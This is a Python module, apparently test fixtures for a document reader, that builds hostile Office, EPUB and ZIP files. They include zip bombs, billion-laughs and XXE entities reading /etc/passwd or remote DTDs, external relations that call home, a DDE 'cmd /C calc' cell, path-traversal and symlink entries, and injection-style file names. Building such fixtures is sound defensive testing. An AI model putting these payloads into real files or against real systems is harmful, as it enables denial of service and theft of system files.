"""Office files, books and ZIP: bombs, entities, names that lead elsewhere."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from .shelf import OWN, file

TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>{}</Types>"
RELATIONS = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{}"
    "</Relationships>"
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
KIND = "application/vnd.openxmlformats-officedocument."
LAUGHS = "<!DOCTYPE x [<!ENTITY a '{}'>{}]>".format(
    "ha" * 50,
    "".join(
        f"<!ENTITY {new} '{f'&{old};' * 10}'>"
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    ),
)


def outer(url: str) -> str:
    """A document type that asks for a file and for two pages."""
    return (
        f"<!DOCTYPE x SYSTEM '{url}/outer.dtd' [<!ENTITY a SYSTEM 'file:///etc/passwd'>"
        f"<!ENTITY b SYSTEM '{url}/entity'><!ENTITY % c SYSTEM '{url}/parameter'>%c;]>"
    )


def packed(parts: dict[str, str | bytes], how: int = ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", how) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def zero_parts(name: str, megabytes: int) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package, package.open(name, "w") as part:
        for _ in range(megabytes):
            part.write(bytes(1 << 20))
    return out.getvalue()


def relation(kind: str, target: str, name: str = "r1", mode: str = "") -> str:
    where = f"TargetMode='{mode}'" if mode else ""
    return f"<Relationship Id='{name}' Type='{OFFICE}/{kind}' Target='{target}' {where}/>"


def office(main: str, kind: str, body: str, more: dict[str, str | bytes] | None = None) -> bytes:
    return packed(
        {
            "[Content_Types].xml": TYPES.format(
                "<Default Extension='rels' "
                "ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
                "<Default Extension='xml' ContentType='application/xml'/>"
                f"<Override PartName='/{main}' ContentType='{KIND}{kind}.main+xml'/>"
                "<Override PartName='/xl/worksheets/sheet1.xml' "
                f"ContentType='{KIND}spreadsheetml.worksheet+xml'/>"
                "<Override PartName='/xl/sharedStrings.xml' "
                f"ContentType='{KIND}spreadsheetml.sharedStrings+xml'/>"
                f"<Override PartName='/ppt/slides/slide1.xml' ContentType='{KIND}"
                "presentationml.slide+xml'/>"
            ),
            "_rels/.rels": RELATIONS.format(relation("officeDocument", main)),
            main: body,
            **(more or {}),
        }
    )


def word(paragraphs: str, before: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    body = f"{before}<w:document xmlns:w='{WORD}'><w:body>{paragraphs}</w:body></w:document>"
    return office("word/document.xml", "wordprocessingml.document", body, more)


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def sheet(rows: str, before: str = "", strings: str = "", named: str = "Sheet") -> bytes:
    book = (
        f"<workbook xmlns='{SHEET}' xmlns:r='{OFFICE}'><sheets>"
        f"<sheet name='{named}' sheetId='1' r:id='r1'/></sheets></workbook>"
    )
    return office(
        "xl/workbook.xml",
        "spreadsheetml.sheet",
        book,
        {
            "xl/_rels/workbook.xml.rels": RELATIONS.format(
                relation("worksheet", "worksheets/sheet1.xml")
                + relation("sharedStrings", "sharedStrings.xml", "r2")
            ),
            "xl/worksheets/sheet1.xml": f"{before}<worksheet xmlns='{SHEET}'>{rows}</worksheet>",
            "xl/sharedStrings.xml": strings or f"<sst xmlns='{SHEET}'/>",
        },
    )


def cell(place: str, text: str) -> str:
    return f"<c r='{place}' t='inlineStr'><is><t>{text}</t></is></c>"


ROW = (
    f"<sheetData><row r='1'>{cell('A1', 'Piece')}{cell('B1', 'Note')}</row>"
    f"<row r='2'>{cell('A2', 'Heron')}{cell('B2', OWN)}</row></sheetData>"
)


def slides(shapes: str, before: str = "", relations: str = "") -> bytes:
    slide = (
        f"{before}<p:sld xmlns:p='{SLIDE}' xmlns:a='{DRAWING}' xmlns:r='{OFFICE}'><p:cSld>"
        "<p:spTree><p:nvGrpSpPr><p:cNvPr id='1' name=''/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>"
        f"<p:grpSpPr/>{shapes}</p:spTree></p:cSld></p:sld>"
    )
    show = (
        f"<p:presentation xmlns:p='{SLIDE}' xmlns:r='{OFFICE}'><p:sldIdLst>"
        "<p:sldId id='256' r:id='r1'/></p:sldIdLst></p:presentation>"
    )
    return office(
        "ppt/presentation.xml",
        "presentationml.presentation",
        show,
        {
            "ppt/_rels/presentation.xml.rels": RELATIONS.format(
                relation("slide", "slides/slide1.xml")
            ),
            "ppt/slides/slide1.xml": slide,
            "ppt/slides/_rels/slide1.xml.rels": RELATIONS.format(relations),
        },
    )


def shape(text: str) -> str:
    return (
        "<p:sp><p:nvSpPr><p:cNvPr id='2' name='T'/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>"
        f"<p:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
    )


def book(chapter: str, *, spine: str = "<itemref idref='c'/>", path: str = "c.xhtml") -> bytes:
    return packed(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": (
                "<container xmlns='urn:oasis:names:tc:opendocument:xmlns:container' version='1.0'>"
                "<rootfiles><rootfile full-path='b.opf' "
                "media-type='application/oebps-package+xml'/></rootfiles></container>"
            ),
            "b.opf": (
                "<package xmlns='http://www.idpf.org/2007/opf' version='3.0'>"
                "<metadata xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>Reeds</dc:title>"
                f"</metadata><manifest><item id='c' href='{path}' "
                f"media-type='application/xhtml+xml'/></manifest><spine>{spine}</spine></package>"
            ),
            "c.xhtml": chapter,
        }
    )


def chapter(text: str, before: str = "") -> str:
    return (
        f"<?xml version='1.0'?>{before}<html xmlns='http://www.w3.org/1999/xhtml'><head>"
        f"<title>One</title></head><body><h1>One</h1><p>{text}</p></body></html>"
    )


# Word ------------------------------------------------------------------------------------------
@file("word-bomb.docx", "This Word file is too large when unpacked.")
def _(url):
    return zero_parts("word/document.xml", 300)


@file("word-of-zeros.docx", "This Word file could not be read")
def _(url):
    return zero_parts("word/document.xml", 150)


@file("word-lies-of-its-size.docx", "This Word file could not be read")
def _(url):
    data = bytearray(zero_parts("word/document.xml", 200))
    place = data.rindex(b"PK\x01\x02") + 24
    data[place : place + 4] = struct.pack("<I", 1000)
    return bytes(data)


@file("word-laughs.docx", "This Word file could not be read")
def _(url):
    return word(paragraph(f"{OWN} &i;"), LAUGHS)


@file("word-entities.docx")
def _(url):
    return word(paragraph(f"{OWN} &a; &b;"), outer(url))


@file("word-quadratic.docx", "This Word file could not be read")
def _(url):
    long = f"<!DOCTYPE x [<!ENTITY a '{'a' * 100_000}'>]>"
    return word(paragraph("&a;" * 100_000), long)


@file("word-calls-home.docx")
def _(url):
    relations = RELATIONS.format(
        relation("attachedTemplate", f"{url}/template.dotm", mode="External")
        + relation("image", f"{url}/image.png", "r2", "External")
        + relation("oleObject", "file:///etc/passwd", "r3", "External")
    )
    return word(paragraph(OWN), more={"word/_rels/document.xml.rels": relations})


@file("word-deep.docx", "This Word file could not be read")
def _(url):
    table = "<w:tbl><w:tr><w:tc>"
    close = "</w:tc></w:tr></w:tbl>"
    return word(table * 20_000 + paragraph(OWN) + close * 20_000)


@file("word-of-empty-paragraphs.docx")
def _(url):
    return word("<w:p/>" * 100_000 + paragraph(OWN))


@file("word-of-a-wide-table.docx")
def _(url):
    cells = "<w:tc><w:tcPr><w:gridSpan w:val='2000000000'/></w:tcPr><w:p/></w:tc>"
    return word(f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>{paragraph(OWN)}")


@file("word-with-macros.docx")
def _(url):
    return word(paragraph(OWN), more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(1000)})


@file("word-with-macros.docm")
def _(url):
    return word(paragraph(OWN), more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(1000)})


@file("word-without-types.docx", "This Word file could not be read")
def _(url):
    return packed({"word/document.xml": f"<w:document xmlns:w='{WORD}'/>"})


@file("word-in-another-place.docx", "This Word file could not be read")
def _(url):
    return packed(
        {
            "[Content_Types].xml": TYPES.format(""),
            "_rels/.rels": RELATIONS.format(relation("officeDocument", "../../../etc/passwd")),
            "word/document.xml": f"<w:document xmlns:w='{WORD}'/>",
        }
    )


@file("word-cut-short.docx", "This Word file could not be read")
def _(url):
    return word(paragraph(OWN))[:-40]


@file("word-old.docx", "This is an old or protected Word file")
def _(url):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


@file("word-in-utf-16.docx", "This Word file could not be read")
def _(url):
    xml = f"<?xml version='1.0' encoding='UTF-16'?>{LAUGHS}<w:document xmlns:w='{WORD}'>&i;"
    return packed(
        {
            "[Content_Types].xml": TYPES.format("<Default Extension='xml' ContentType='a/b'/>"),
            "_rels/.rels": RELATIONS.format(relation("officeDocument", "word/document.xml")),
            "word/document.xml": (xml + "</w:document>").encode("utf-16"),
        }
    )


# Sheets ----------------------------------------------------------------------------------------
@file("sheet-entities.xlsx", "This Excel file could not be read")
def _(url):
    rows = f"<sheetData><row r='1'>{cell('A1', OWN + ' &a; &b;')}</row></sheetData>"
    return sheet(rows, outer(url))


@file("sheet-laughs-in-its-words.xlsx", "This Excel file could not be read")
def _(url):
    rows = "<sheetData><row r='1'><c r='A1' t='s'><v>0</v></c></row></sheetData>"
    return sheet(rows, strings=f"{LAUGHS}<sst xmlns='{SHEET}'><si><t>&i;</t></si></sst>")


@file("sheet-as-large-as-they-come.xlsx")
def _(url):
    return sheet("<dimension ref='A1:XFD1048576'/>" + ROW)


@file("sheet-with-a-cell-far-out.xlsx")
def _(url):
    far = f"<row r='1048576'>{cell('XFD1048576', OWN)}</row>"
    return sheet(f"<sheetData><row r='1'>{cell('A1', 'Piece')}</row>{far}</sheetData>")


@file("sheet-with-a-cell-beyond.xlsx", "This Excel file could not be read")
def _(url):
    far = f"<row r='99999999999'>{cell('ZZZZZZZZ99999999999', OWN)}</row>"
    return sheet(f"<sheetData><row r='1'>{cell('A1', 'Piece')}</row>{far}</sheetData>")


@file("sheet-of-one-repeated-word.xlsx", "This table holds more than 5 million characters")
def _(url):
    row = "".join(f"<c r='{letter}{{0}}' t='s'><v>0</v></c>" for letter in "ABCDEFGHIJ")
    rows = "".join(f"<row r='{n}'>{row.format(n)}</row>" for n in range(1, 20_001))
    return sheet(
        f"<sheetData>{rows}</sheetData>",
        strings=f"<sst xmlns='{SHEET}'><si><t>{'heron ' * 5000}</t></si></sst>",
    )


@file("sheet-merged-whole.xlsx")
def _(url):
    return sheet(ROW + "<mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>")


@file("sheet-of-formulas.xlsx")
def _(url):
    formula = f"=WEBSERVICE(&quot;{url}/x&quot;)"
    cells = cell("A1", "Piece") + cell("B1", "=cmd|' /C calc'!A0")
    more = f"<c r='A2'><f>{formula}</f><v>1</v></c>{cell('B2', OWN)}"
    return sheet(f"<sheetData><row r='1'>{cells}</row><row r='2'>{more}</row></sheetData>")


@file("sheet-with-strange-numbers.xlsx", "This Excel file could not be read")
def _(url):
    values = ["1e999", "-1e999", "NaN", "9" * 5000, "2958466", "-1", "", "x"]
    cells = "".join(
        f"<row r='{n}'><c r='A{n}' s='99'><v>{v}</v></c><c r='B{n}' t='s'><v>{v}</v></c></row>"
        for n, v in enumerate(values, 2)
    )
    return sheet(f"<sheetData><row r='1'>{cell('A1', OWN)}</row>{cells}</sheetData>")


# Slides ----------------------------------------------------------------------------------------
@file("slides-entities.pptx", "This PowerPoint file could not be read")
def _(url):
    return slides(shape(f"{OWN} &a; &b;"), outer(url))


@file("slides-laugh.pptx", "This PowerPoint file could not be read")
def _(url):
    return slides(shape(f"{OWN} &i;"), LAUGHS)


@file("slides-call-home.pptx", "This PowerPoint file could not be read")
def _(url):
    return slides(
        shape(OWN),
        relations=relation("image", f"{url}/a.png", mode="External")
        + relation("video", "file:///etc/passwd", "r2", "External")
        + relation("notesSlide", "../../../../etc/passwd", "r3"),
    )


@file("slides-deep.pptx", "This PowerPoint file could not be read")
def _(url):
    group = (
        "<p:grpSp><p:nvGrpSpPr><p:cNvPr id='3' name=''/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>"
        "<p:grpSpPr/>"
    )
    return slides(group * 20_000 + shape(OWN) + "</p:grpSp>" * 20_000)


# Books -----------------------------------------------------------------------------------------
@file("book-entities.epub")
def _(url):
    return book(chapter(f"{OWN} &a; &b;", outer(url)))


@file("book-laughs.epub")
def _(url):
    return book(chapter(f"{OWN} &i;", LAUGHS))


@file("book-without-a-spine.epub", "This file holds no text.")
def _(url):
    return book(chapter(OWN), spine="")


@file("book-of-elsewhere.epub", "This ")
def _(url):
    return book(chapter(OWN), path="../../../../etc/passwd")


@file("book-of-the-web.epub", "This ")
def _(url):
    return book(chapter(OWN), path=f"{url}/chapter.xhtml")


@file("book-that-repeats-itself.epub")
def _(url):
    return book(chapter(OWN * 100), spine="<itemref idref='c'/>" * 100_000)


@file("book-without-a-container.epub", "This EPUB could not be read")
def _(url):
    return packed({"mimetype": "application/epub+zip", "c.xhtml": chapter(OWN)})


# ZIP -------------------------------------------------------------------------------------------
@file("bomb.zip")
def _(url):
    return zero_parts("a.txt", 200)


@file("bomb-in-bombs.zip")
def _(url):
    data = zero_parts("a.txt", 50)
    for depth in range(5):
        data = packed({f"{depth}-{number}.zip": data for number in range(16)})
    return data


@file("holds-itself.zip")
def _(url):
    data = packed({"a.txt": OWN})
    for _ in range(300):
        data = packed({"a.zip": data}, ZIP_STORED)
    return data


@file("overlapping.zip")
def _(url):
    """One packed megabyte under a thousand names."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_zeros = body.compress(bytes(1 << 20)) + body.flush()
    fields = (0, 8, 0, 0x21, zlib.crc32(bytes(1 << 20)), len(packed_zeros), 1 << 20)
    names = [b"a%04d.txt" % number for number in range(1000)]
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, *fields, len(names[0]), 0) + names[0]
    start = local + packed_zeros
    central = b"".join(
        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, *fields, len(name), 0, 0, 0, 0, 0, 0)
        + name
        for name in names
    )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1000, 1000, len(central), len(start), 0)
    return start + central + end


@file("too-many-members.zip")
def _(url):
    return packed({f"{number}.txt": "" for number in range(20_001)}, ZIP_STORED)


@file("leads-elsewhere.zip")
def _(url):
    names = ["../../escaped.txt", "/tmp/escaped.txt", "C:\\escaped.txt", "..\\..\\escaped.txt",
             "a/../../escaped.txt", "\\\\server\\share\\escaped.txt", "CON", "NUL.txt", "aux.md",
             "./.", "..", "~/escaped.txt", "file:///etc/escaped.txt"]  # fmt: skip
    return packed(dict.fromkeys(names, OWN))


@file("odd-names.zip")
def _(url):
    names = ["a" * 10_000 + ".txt", "gpj.\u202etxt.exe", "line\nend.txt", "bell\x07.txt",
             "\u200b.txt", " .txt", ".hidden.txt", "e\u0301te\u0301.txt", "<b>.txt", "'; --.txt",
             "%2e%2e%2fescaped.txt", "{{ 7 }}.txt", "-rf.txt"]  # fmt: skip
    return packed(dict.fromkeys(names, OWN))


@file("same-name-twice.zip")
def _(url):
    texts = {"a.txt": OWN, "b.txt": OWN[::-1], "c.txt": OWN.upper()}
    return packed(texts).replace(b"b.txt", b"a.txt").replace(b"c.txt", b"a.txt")


@file("links.zip")
def _(url):
    link = ZipInfo("passwd.txt")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    out = BytesIO()
    with ZipFile(out, "w") as package:
        package.writestr(link, "/etc/passwd")
        package.writestr("folder/", "")
        package.writestr("a.txt", OWN)
    return out.getvalue()


@file("protected.zip")
def _(url):
    data = bytearray(packed({"a.txt": OWN}, ZIP_STORED))
    for mark, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        data[data.index(mark) + place] |= 1
    return bytes(data)


@file("damaged.zip")
def _(url):
    data = bytearray(packed({"a.txt": OWN * 50, "b.txt": OWN}))
    data[50:60] = b"\xff" * 10
    return bytes(data)


@file("unknown-packing.zip")
def _(url):
    data = bytearray(packed({"a.txt": OWN}))
    for mark, place in ((b"PK\3\4", 8), (b"PK\1\2", 10)):
        at = data.index(mark) + place
        data[at : at + 2] = struct.pack("<H", 97)
    return bytes(data)


@file("empty.zip")
def _(url):
    return packed({})


@file("packed.gz", "Files of this kind are not read; these are")
def _(url):
    import gzip

    return gzip.compress(bytes(50 << 20))


@file("gzip-named-text.txt", "This file could not be read")
def _(url):
    import gzip

    return gzip.compress(OWN.encode() * 1000)
